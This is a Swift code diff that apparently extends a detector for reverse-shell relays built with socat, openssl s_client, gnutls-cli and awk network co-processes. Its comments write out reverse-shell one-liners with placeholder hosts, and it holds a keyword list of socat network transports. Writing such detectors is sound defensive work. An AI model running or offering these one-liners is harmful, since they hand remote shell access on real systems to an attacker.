@@ -45,8 +45,10 @@ enum RelayMatcher {
   private static func socat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
     let tool = ToolWords(shell, index, after: place)
     let words = tool.words
-    // `socat - TCP:host:port | sh`
-    var runsShell = words.first.map { $0 == "-" } == true && shell.isPipedWithShell(index)
+    // `socat - TCP:host:port | sh`, `sh <f | socat STDIO TCP:host:port >f`
+    var runsShell =
+      words.contains { $0 == "-" || $0.hasPrefix("-,") || $0.equalsIgnoringCase("stdio") }
+      && shell.isPipedWithShell(index)
     var far: Endpoint?
     var isBind = false
     var transport = "tcp"
@@ -95,7 +97,8 @@ enum RelayMatcher {
     "TCP", "TCP4", "TCP6", "TCP-CONNECT", "TCP4-CONNECT", "TCP6-CONNECT", "UDP", "UDP4", "UDP6", "UDP-CONNECT",
     "UDP4-CONNECT", "UDP6-CONNECT", "UDP-DATAGRAM", "UDP4-DATAGRAM", "UDP6-DATAGRAM", "UDP-SENDTO", "UDP4-SENDTO",
     "UDP6-SENDTO", "OPENSSL", "OPENSSL-CONNECT", "SSL", "OPENSSL-DTLS-CLIENT", "OPENSSL-DTLS-CONNECT", "SCTP", "SCTP4",
-    "SCTP6", "SCTP-CONNECT", "SCTP4-CONNECT", "SCTP6-CONNECT",
+    "SCTP6", "SCTP-CONNECT", "SCTP4-CONNECT", "SCTP6-CONNECT", "DTLS", "DTLS-CLIENT", "DTLS-CONNECT", "DCCP",
+    "DCCP-CONNECT", "TCP4-C", "TCP-C", "SSL-CONNECT",
   ])
 
   private static func transport(_ address: String) -> String {
@@ -131,13 +134,15 @@ enum RelayMatcher {
   /// `sh -i <fifo | openssl s_client -connect host:port >fifo`; to look at a certificate needs no shell.
   private static func openssl(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
     let tool = ToolWords(shell, index, after: place)
-    guard shell.isPipedWithShell(index) || shell.hasFIFO && shell.hasPipedShell else { return nil }
+    guard shell.isPipedWithShell(index) || shell.isJoinedWithShell(index) else { return nil }
     var endpoint = Endpoint(host: nil, port: nil)
     for (number, word) in tool.words.enumerated() {
       let value = tool.word(number + 1)
       if word == "-connect" {
         if let colon = value.lastIndex(of: 0x3A) {
           endpoint = shell.endpoint(value.slice(0, colon), value.slice(colon + 1))
+        } else {
+          endpoint.host = shell.endpoint(value, ByteView("1")).host
         }
       } else if word == "-host" {
         endpoint.host = shell.endpoint(value, ByteView("1")).host
@@ -150,7 +155,7 @@ enum RelayMatcher {
 
   /// `sh -i <fifo | gnutls-cli host -p port >fifo`
   private static func gnutls(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
-    guard shell.isPipedWithShell(index) || shell.hasFIFO && shell.hasPipedShell else { return nil }
+    guard shell.isPipedWithShell(index) || shell.isJoinedWithShell(index) else { return nil }
     let tool = ToolWords(shell, index, after: place)
     var endpoint = Endpoint(host: nil, port: 443)
     var isValue = false
@@ -219,7 +224,9 @@ enum RelayMatcher {
     for (device, transport) in devices {
       guard let place = text.firstIndex(of: ByteView(device)), text.contains("getline") else { continue }
       // The device is read from, and what is read is run: two co-processes or a pipe.
-      guard text.contains("|&"), text.contains("while") || text.contains("system"), runsLines(text) else { continue }
+      guard text.contains("|&"), text.contains("while") || text.contains("system"),
+        runsLines(text, program(text, around: place))
+      else { continue }
       let parts = text.slice(place + ByteView(device).count, place + 300).split(0x2F, limit: 3)
       guard parts.count == 3 else { continue }
       if !(parts[0] == "0"), parts[1] == "0" {
@@ -239,7 +246,7 @@ enum RelayMatcher {
 
   /// A second `getline` reads what a command says that came in, and a page is read by the first alone. What stands in quotes
   /// came from nowhere: `"hostname" | getline h`.
-  private static func runsLines(_ text: ByteView) -> Bool {
+  private static func runsLines(_ text: ByteView, _ program: ByteView) -> Bool {
     var sources: [ByteView] = []
     var isRead = false
     var from = 0
@@ -260,6 +267,13 @@ enum RelayMatcher {
       }
     }
     if sources.count + (isRead ? 1 : 0) >= 2 { return true }
-    return (isRead || !sources.isEmpty) && (text.contains("system(") || ShellWords.namesShell(text))
+    return (isRead || !sources.isEmpty) && (program.contains("system(") || ShellWords.namesShell(program))
+  }
+
+  /// The program in its quotes: a shell elsewhere on the command line is not what it gives away.
+  private static func program(_ text: ByteView, around place: Int) -> ByteView {
+    let before = text.slice(max(place - 4096, 0), place)
+    let start = before.lastIndex(of: 0x27).map { place - before.count + $0 + 1 } ?? place - before.count
+    return text.slice(start, text.slice(0, place + 4096).firstIndex(of: 0x27, from: place) ?? place + 4096)
   }
 }
